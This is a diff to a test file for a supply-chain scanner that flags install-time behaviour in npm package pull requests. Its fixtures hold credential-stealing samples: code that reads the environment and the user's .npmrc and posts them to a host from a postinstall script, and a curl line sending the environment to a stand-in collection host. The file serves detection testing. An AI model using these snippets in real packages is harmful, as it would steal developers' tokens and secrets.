@@ -2,7 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { readBehaviors } from '../../../src/ecosystems/build-code/behaviors.js';
 import type { BuildLanguage } from '../../../src/ecosystems/build-code/behaviors.js';
 import { readCallBehaviors } from '../../../src/ecosystems/build-code/build-calls.js';
-import { filesRunBy } from '../../../src/ecosystems/build-code/build-files.js';
+import { filesRunBy, installManifestsWanted } from '../../../src/ecosystems/build-code/build-files.js';
 import type { SnapshotFile } from '../../../src/snapshot/pr-snapshot.js';
 import { makeFile } from '../../support/snapshot-factory.js';
 import { analyze, change, pkg, snapshotOf } from '../../support/supply-chain-snapshot.js';
@@ -326,6 +326,32 @@ module.exports = { hooks: { readPackage } };
     expect(found(postinstall, added('scripts/postinstall.js', "require('../lib/telemetry.js');"), modified('lib/telemetry.js', "fetch('https://api.acme.dev/v1/usage', { method: 'POST', body: JSON.stringify({ token: process.env.ACME_TOKEN }) });"))).toEqual([]);
     // The same module, no install script loading it.
     expect(found(change('package.json', pkg({}), pkg({ scripts: { build: 'node scripts/postinstall.js' } })), added('scripts/postinstall.js', "require('../lib/telemetry.js');"), modified('lib/telemetry.js', collect)).map((f) => f.slice(0, 2))).toEqual([['suspicious-network-endpoint', 'lib/telemetry.js']]);
+  });
+
+  it("reads a file the base package.json's install script runs when the PR changes only that file (package.json read at the base)", () => {
+    const harvest = "const data = { env: process.env, npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') };\nfetch('https://api.github.com/user/repos', { method: 'POST', body: JSON.stringify(data) });";
+    const setup = makeFile('scripts/setup.js', { status: 'modified', additions: 2, patch: `@@ -1,1 +1,3 @@\n const fs = require('fs'), os = require('os');\n${harvest.split('\n').map((l) => `+${l}`).join('\n')}` });
+    const withBase = (scripts: Record<string, string>, ...files: SnapshotFile[]) => ({ ...snapshotOf(...files), baseFiles: [{ path: 'package.json', content: pkg({ scripts }) }] });
+    const found = (snapshot: ReturnType<typeof snapshotOf>) => analyze(snapshot).findings.filter((f) => f.id === 'build-code-behavior').map((f) => [f.path, f.severity, f.title]);
+    expect(found(withBase({ postinstall: 'node scripts/setup.js' }, setup))).toEqual([['scripts/setup.js', 'critical', 'postinstall script of package.json sends credentials or the environment to a host at npm install time']]);
+    // And the next hops from there.
+    const starts = makeFile('scripts/setup.js', { status: 'modified', additions: 1, patch: "@@ -1,1 +1,2 @@\n 'use strict';\n+require('./stage.js');" });
+    expect(found(withBase({ postinstall: 'node scripts/setup.js' }, starts, added('scripts/stage.js', harvest)))).toEqual([['scripts/stage.js', 'critical', expect.any(String)]]);
+    // Not a script no install script runs, nor another file.
+    expect(found(withBase({ build: 'node scripts/setup.js' }, setup))).toEqual([]);
+    expect(found(withBase({ postinstall: 'node scripts/other.js' }, setup))).toEqual([]);
+  });
+
+  it('asks for the base package.json only when the PR does not change it and adds install-time work to a file an install script may run', () => {
+    const file = (path: string, ...added: string[]) => ({ path, removed: false, patch: `@@ -1,1 +1,${added.length + 1} @@\n 'use strict';\n${added.map((l) => `+${l}`).join('\n')}` });
+    expect(installManifestsWanted([file('scripts/setup.js', "fetch('https://collect.example.net/in', { method: 'POST', body: JSON.stringify(process.env) });")])).toEqual(['package.json']);
+    expect(installManifestsWanted([file('scripts/setup.js', "require('./stage.js');")])).toEqual(['package.json']);
+    expect(installManifestsWanted([file('tools/install.sh', 'curl -s -d "$(env)" https://collect.example.net/in'), { path: 'README.md', removed: false, patch: '@@ -1 +1 @@\n-a\n+b' }])).toEqual(['package.json']);
+    // The manifest in the PR already, a change that does nothing at install, no script, a test, an installed package, a removed file.
+    expect(installManifestsWanted([{ path: 'package.json', removed: false, patch: null }, file('scripts/setup.js', "require('./stage.js');")])).toEqual([]);
+    expect(installManifestsWanted([file('src/widgets/render.ts', 'export const WIDTH = 80;', "const label = `${name}: ${value}`;")])).toEqual([]);
+    expect(installManifestsWanted([file('src/app.go', 'exec.Command("ls")'), file('src/app.test.ts', 'fetch(url)'), file('node_modules/x/index.js', 'fetch(url)')])).toEqual([]);
+    expect(installManifestsWanted([{ path: 'scripts/old.js', removed: true, patch: null }])).toEqual([]);
   });
 
   it('raises a worm\'s or a stealer\'s medium shape to high in a file the install chain runs, and says so; elsewhere it stays medium', () => {
